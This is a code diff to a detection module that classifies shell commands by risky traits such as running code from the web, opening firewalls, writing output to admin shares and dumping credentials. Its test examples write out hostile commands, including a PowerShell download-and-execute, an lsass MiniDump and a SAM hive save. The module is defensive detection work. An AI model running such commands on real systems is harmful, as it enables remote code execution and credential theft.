@@ -11,6 +11,7 @@ from longtail.executions.meaning import (
     fetches_program,
     hands_on_a_shell,
     remote_argument,
+    runs_from_the_web,
     runs_remote,
     writable_target,
 )
@@ -134,6 +135,13 @@ TRAITS: tuple[Row, ...] = (
         ("curl -o x.zip https://example.com/x.zip", "ping -n 1 127.0.0.1"),
     ),
     Row(
+        Trait.RUNS_FROM_THE_WEB,
+        ("://", "\\\\"),
+        runs_from_the_web,
+        ("mshta http://cdn.example.org/x", "powershell -nop iex(irm https://cdn.example.org/x)"),
+        ("regsvr32 /s \\\\fs01\\tools\\x.dll", "powershell iwr https://cdn.example.org/x -OutFile x.zip"),
+    ),
+    Row(
         Trait.CHANGES_ACCOUNTS,
         (),
         Says(
@@ -173,11 +181,39 @@ TRAITS: tuple[Row, ...] = (
         ("schtasks /query /fo csv", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
     ),
     Row(
+        Trait.OPENS_FIREWALL,
+        (),
+        Says(
+            {
+                "netsh": r"firewall\b.*\badd\b",
+                "new-netfirewallrule": r"",
+                "iptables ip6tables": r"(?:^|\s)-[ai]\s.*-j\s+accept\b",
+                "ufw": r"^allow\b",
+                "firewall-cmd": r"-add-(?:port|service|rich-rule|source)\b",
+            }
+        ),
+        (
+            "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=1433",
+            "sh -c 'iptables -A INPUT -p tcp --dport 8443 -j ACCEPT'",
+        ),
+        ("netsh advfirewall set allprofiles state off", "iptables -L -n"),
+    ),
+    Row(
+        Trait.ANSWERS_TO_A_SHARE,
+        ("$\\",),
+        Says({"*": r">\s?\\\\[^\\\s]{1,255}\\(?:admin|ipc|[a-z])\$\\"}),
+        (
+            "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.12 2>&1",
+            'cmd.exe /c "tasklist /v" > \\\\srv1\\C$\\Windows\\Temp\\o.txt',
+        ),
+        ("robocopy D:\\backup \\\\nas\\d$\\backup /mir", "cmd /c dir > \\\\nas\\logs\\dir.txt"),
+    ),
+    Row(
         Trait.WEAKENS_DEFENCE,
         (),
         Says(
             {
-                "netsh": r"firewall\b.*\b(?:off|disable|add)\b",
+                "netsh": r"firewall\b.*\b(?:off|disable)\b",
                 "set-mppreference add-mppreference": r"disable|exclusion",
                 "mpcmdrun": r"-removedefinitions",
                 "vssadmin": r"^(?:delete\s+shadows|resize\s+shadowstorage)",
@@ -207,11 +243,15 @@ TRAITS: tuple[Row, ...] = (
         ("sekurlsa", "lsadump", "comsvcs", "ntds"),
         Says(
             {
-                "reg": r"^(?:save|export)\s+(?:hklm|hkey_local_machine)\\(?:sam|security|system)\b",
+                "reg": r"^(?:save|export)\s+(?:\\\\[^\\\s]+\\)?(?:hklm|hkey_local_machine)\\"
+                r"(?:sam|security|system(?:\\(?:currentcontrolset|controlset\d+)(?:\\control(?:\\lsa)?)?)?)(?![\w\\])",
                 "procdump procdump64 rundll32 sqldumper nanodump": r"\blsass(?:\.exe)?\b|minidump\s+\d",
                 "cmdkey": r"-list\b",
                 "vaultcmd": r"-list(?:creds|credentials)",
                 "cat cp tail head less scp tar": r"/etc/(?:g?shadow)\b",
+                "sqlcmd osql isql bcp invoke-sqlcmd": r"\bpassword_hash\b|\bpasswordhash\b",
+                "psql": r"\brolpassword\b|\bpg_shadow\b",
+                "mysql mariadb": r"\bauthentication_string\b",
                 "copy esentutl ntdsutil": r"\bntds(?:\.dit)?\b|config\\sam\b",
                 "*": r"sekurlsa::|lsadump::|comsvcs(?:\.dll)?\s*,?\s*(?:minidump|#\+?24)\b"
                 r"|ac(?:tivate)? i(?:nstance)? ntds",
@@ -221,7 +261,7 @@ TRAITS: tuple[Row, ...] = (
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
             "reg save HKLM\\SAM C:\\Users\\Public\\s.hiv",
         ),
-        ("reg save HKCU\\Environment env.hiv", "cmdkey /?"),
+        ("reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\x x.reg", "cmdkey /?"),
     ),
 )
 """In the order of ``Trait``; the examples of every row run as tests."""
